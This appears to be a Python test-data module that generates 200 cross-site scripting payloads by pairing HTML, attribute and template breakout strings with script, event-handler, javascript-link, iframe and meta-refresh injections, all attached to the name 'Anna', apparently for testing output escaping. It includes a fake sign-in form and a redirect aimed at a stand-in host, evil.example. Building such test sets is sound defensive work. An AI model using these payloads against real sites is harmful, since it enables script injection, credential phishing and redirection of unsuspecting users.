"""Two hundred names that are programs wherever somebody forgot that they are text."""

_WAYS_OUT = (
    "",
    '">',
    "'>",
    "</title>",
    "</style>",
    "</script>",
    "</textarea>",
    "</strong>",
    "-->",
    "</svg>",
    '" autofocus onfocus=alert(1) x="',
    "' onmouseover=alert(1) x='",
    "]]>",
    "\\x3e",
    "&quot;&gt;",
    "{{constructor.constructor('alert(1)')()}}",
    "${alert(1)}",
    "%22%3E",
    "＂＞",
    "<!--",
)
_WAYS_IN = (
    "<script>alert(1)</script>",
    "<ScRiPt/x>alert(1)//",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<a href=javascript:alert(1)>Anna</a>",
    '<iframe srcdoc="<script>parent.alert(1)</script>">',
    "<form action=//evil.example><button>Sign in</button>",
    "<math><mtext><style><img src=x onerror=alert(1)></style>",
    "<meta http-equiv=refresh content=0;url=//evil.example>",
    "&lt;b&gt;Anna&lt;/b&gt;",
)

PAYLOADS = tuple(f"Anna {out}{into}" for out in _WAYS_OUT for into in _WAYS_IN)
